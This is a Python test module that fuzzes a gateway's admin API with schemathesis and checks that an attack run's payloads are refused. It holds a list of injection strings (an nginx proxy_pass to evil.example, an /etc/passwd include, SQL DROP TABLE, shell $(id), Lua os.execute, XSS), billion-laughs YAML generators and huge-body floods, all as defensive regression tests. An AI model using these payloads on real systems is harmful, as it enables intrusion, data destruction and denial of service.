"""schemathesis against the admin API's own OpenAPI document, on a real controller (SQLite store, nginx).

Every operation gets positive and negative examples; every response is checked: no 5xx, status codes,
content types, headers and bodies as documented, missing auth refused. Bounded: ~25 examples per
operation (well under 90 s on an idle machine).

Then, on the same controller, what an attack run found held on the admin API (issue 19): 160 injection
payloads, billion-laughs imports, 50-200 MB bodies (~20 s, most of it sending the bodies).
"""

from __future__ import annotations

import time
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
import schemathesis
from hypothesis import HealthCheck, settings
from schemathesis.checks import CheckFunction
from schemathesis.config import SchemathesisConfig
from schemathesis.specs.openapi.checks import positive_data_acceptance

from control_plane.api.openapi import build_openapi
from control_plane.api.routes import ROUTES
from tests.integration.gateway import Gateway

# The coverage phase of the import (four media types, a deep document schema) alone sends ~2100 requests:
# it gets the fuzzing phase only, to keep the module bounded.
CONFIG = SchemathesisConfig.from_dict(
    {"operations": [{"include-operation-id": "import_config", "phases": {"coverage": {"enabled": False}}}]}
)
SCHEMA = schemathesis.openapi.from_dict(build_openapi(ROUTES), config=CONFIG)
# "A schema-valid request was rejected": the import documents and migrations reject instance names that
# repeat within one document (422), which JSON Schema's uniqueItems cannot express (items differ).
# Scaling groups: the command must be one ISHGW_SCALING_COMMANDS allows (a fact of the host; none here, so
# the fuzzer never starts a program), and bounds, bands and port ranges are rules across fields.
NO_POSITIVE_ACCEPTANCE = frozenset(
    {"import_config", "migrate_instances", "create_scaling_group", "replace_scaling_group"}
)


def references_a_secret(case: schemathesis.Case[Any]) -> bool:
    """An api_key "env:NAME" / "file:/path" is accepted only where this deployment keeps provider secrets
    (names provider.env defines, files inside ISHGW_SECRET_DIRS): a fact of the host, not of the schema."""
    body = case.body
    key = body.get("api_key") if isinstance(body, dict) else None
    return isinstance(key, str) and key.startswith(("env:", "file:"))


@pytest.fixture(scope="module")
def controller() -> Iterator[Gateway]:
    env = {
        # The fuzzer sends wrong and missing keys on purpose: do not lock it out.
        "ISHGW_ADMIN_AUTH_FAILURE_LIMIT": "1000000",
        "ISHGW_PROBES_ENABLED": "false",
    }
    with Gateway(extra_env=env) as gw:
        yield gw


@SCHEMA.parametrize()
@settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=list(HealthCheck),
    database=None,
)
def test_admin_api_conforms_to_its_openapi(case: schemathesis.Case[Any], controller: Gateway) -> None:
    operation_id = case.operation.definition.raw.get("operationId")
    positive = operation_id not in NO_POSITIVE_ACCEPTANCE and not references_a_secret(case)
    excluded: list[CheckFunction] = [] if positive else [positive_data_acceptance]
    case.call_and_validate(
        base_url=str(controller.admin.base_url).rstrip("/"),
        headers={"X-Admin-API-Key": controller.admin_key},
        excluded_checks=excluded,
        timeout=30,
    )


# -- issue 19: what the attack run found held on the admin API, kept -----------------------------------------

# Sixteen payloads, each with a character no admin field takes (space, quote, ';', '$', braces, backslash,
# a control character or non-ASCII), for ten fields: 160 attempts, every one a 422 naming the field.
INJECTIONS = [
    "x;proxy_pass http://evil.example",  # an nginx directive
    "x}\nserver{listen 81;}",  # a block break-out
    'x"; include /etc/passwd; #',
    "$remote_addr",  # an nginx variable
    "x\r\nX-Injected: 1",  # a header
    "' OR '1'='1",  # SQL
    "x'); DROP TABLE instances;--",
    "{{7*7}}",  # Jinja
    "{% raw %}x",
    "$(id)",  # shell
    "`id` x",
    "..\\..\\etc\\passwd",
    "x\x00y",
    ']] .. os.execute("id") .. [[',  # a Lua long string
    "x\u202egnp.exe",  # right-to-left override
    "<img src=x onerror=alert(1)>",
]
INSTANCE = {"name": "inj", "provider_type": "openai", "supported_models": ["m"]}
# field -> (method, path, body for a payload, the field the 422 names)
INJECTABLE: dict[str, tuple[str, str, Any, str]] = {
    "instance name": ("POST", "/admin/instances", lambda p: {**INSTANCE, "name": p}, "name"),
    "api_base": (
        "POST", "/admin/instances", lambda p: {**INSTANCE, "api_base": f"http://127.0.0.1:9/{p}"}, "api_base"
    ),
    "supported model": (
        "POST", "/admin/instances", lambda p: {**INSTANCE, "supported_models": [p]}, "supported_models"
    ),
    "deployment": (
        "POST", "/admin/instances", lambda p: {**INSTANCE, "model_deployments": {"m": p}}, "model_deployments"
    ),
    "tag": ("POST", "/admin/instances", lambda p: {**INSTANCE, "tags": [p]}, "tags"),
    "api_key": ("POST", "/admin/instances", lambda p: {**INSTANCE, "api_key": p}, "api_key"),
    "client key name": ("POST", "/admin/keys", lambda p: {"name": p}, "name"),
    "client key model": (
        "POST", "/admin/keys", lambda p: {"name": "inj", "allowed_models": [p]}, "allowed_models"
    ),
    "alias": ("PUT", "/admin/routing", lambda p: {"model_aliases": {"a": p}}, "model_aliases"),
    "session header": ("PUT", "/admin/routing", lambda p: {"session_header": p}, "session_header"),
}  # fmt: skip


def test_injection_payloads_are_422_and_change_nothing(controller: Gateway) -> None:
    before = controller.status()
    routing = controller.admin.get("/admin/routing").json()
    wrong = []
    for field, (method, path, body, named) in INJECTABLE.items():
        for payload in INJECTIONS:
            r = controller.admin.request(method, path, json=body(payload))
            fields = [d.get("field", "") for d in r.json().get("detail", [])] if r.status_code == 422 else []
            if r.status_code != 422 or not any(f.split(".")[0] == named for f in fields):
                wrong.append(f"{field} {payload!r}: {r.status_code} {r.text[:200]}")
    assert wrong == [], "\n".join(wrong)
    assert len(INJECTABLE) * len(INJECTIONS) == 160
    after = controller.status()
    assert (after["generation"], after["checksum"]) == (before["generation"], before["checksum"])
    assert controller.admin.get("/admin/routing").json() == routing
    names = [i["name"] for i in controller.admin.get("/admin/instances").json()["instances"]]
    assert "inj" not in names


def billion_laughs(last: str) -> bytes:
    """Nine levels of nine references each (9**9 "lol"s once expanded), then `last`."""
    text = "a: &a [" + ", ".join(["lol"] * 9) + "]\n"
    for previous, name in zip("abcdefgh", "bcdefghi", strict=True):
        text += f"{name}: &{name} [" + ", ".join([f"*{previous}"] * 9) + "]\n"
    return (text + last).encode()


def nested_laughs() -> bytes:
    """The same, every anchor inside fields the import knows (instances' tags)."""
    lines = ["version: 1", "instances:"]
    previous = None
    for n, name in enumerate("abcdefghi"):
        items = ", ".join(["lol"] * 9) if previous is None else ", ".join([f"*{previous}"] * 9)
        lines += [f"- name: laugh-{n}", "  provider_type: openai", f"  tags: &{name} [{items}]"]
        previous = name
    return ("\n".join(lines) + "\n").encode()


def test_billion_laughs_import_is_422_at_once(controller: Gateway) -> None:
    log = controller.home / "controller.log"
    before = controller.status()["generation"]
    documents = {
        "anchors beside the document": billion_laughs("version: 1\ninstances: []\n"),
        "instances the expansion": billion_laughs("version: 1\ninstances: *i\n"),
        "routing the expansion": billion_laughs("version: 1\ninstances: []\nrouting: {model_aliases: *i}\n"),
        "anchors in instances": nested_laughs(),
    }
    for case, document in documents.items():
        lines = len(log.read_text().splitlines())
        started = time.monotonic()
        r = controller.admin.post(
            "/admin/config/import", content=document, headers={"Content-Type": "application/yaml"}
        )
        took = time.monotonic() - started
        assert r.status_code == 422 and r.json()["error"] == "invalid_input", (case, r.text[:300])
        assert took < 5 and len(r.content) < 20_000, (case, took, len(r.content))
        new = log.read_text().splitlines()[lines:]
        assert len(new) <= 2 and sum(map(len, new)) < 2000, (case, new[:3])
    assert controller.status()["generation"] == before


def test_huge_admin_bodies_are_413(controller: Gateway) -> None:
    """The admin API reads at most aiohttp's 1 MiB of a body: 50-200 MB are refused, and it keeps serving."""
    cases = [
        ("POST", "/admin/instances", "application/json", 50),
        ("POST", "/admin/keys", "application/json", 50),
        ("PUT", "/admin/routing", "application/json", 50),
        ("POST", "/admin/config/import", "application/yaml", 200),
    ]
    for method, path, content_type, mb in cases:
        r = controller.admin.request(
            method,
            path,
            content=b"x" * (mb * 1024 * 1024),
            headers={"Content-Type": content_type},
            timeout=60,
        )
        assert r.status_code == 413, (path, mb, r.text[:200])
        assert r.json()["error"] == "request_entity_too_large", path
    # Without the key, refused before the body.
    r = httpx.post(
        f"{controller.admin.base_url}/admin/instances",
        content=b"x" * (50 * 1024 * 1024),
        headers={"Content-Type": "application/json"},
        timeout=60,
    )
    assert r.status_code == 401
    assert controller.admin.get("/admin/status").status_code == 200
